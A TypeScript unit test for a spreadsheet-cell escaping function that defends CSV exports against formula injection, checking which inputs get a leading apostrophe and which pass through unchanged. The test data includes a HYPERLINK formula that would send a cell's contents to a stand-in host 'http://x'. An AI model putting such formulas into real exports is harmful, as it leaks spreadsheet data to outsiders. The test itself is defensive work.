import { spreadsheetCell } from '../src/spreadsheet-cell';

/** The cell rule shared by the exports and the dashboard's per-chart CSV (a unit test: no stack). */
describe('spreadsheetCell', () => {
  it.each(['=1+2', '+1+2', '-1+2', '@SUM(1+1)', '\t=1', '\r=1', '\tplain', '  =1', '\uFF1D1+2', '=HYPERLINK("http://x"&B2,"voir")'])(
    'gives %j a leading apostrophe',
    (text) => expect(spreadsheetCell(text)).toBe(`'${text}`),
  );

  it.each([-1250.5, 0, 42, '-1250.5', '-3', '17', 'Fès', 'a=b', 'x-y', '', true])('keeps %j as it is', (value) => {
    expect(spreadsheetCell(value)).toBe(value);
  });

  it('writes nothing for a missing value', () => {
    expect([spreadsheetCell(null), spreadsheetCell(undefined)]).toEqual(['', '']);
  });
});
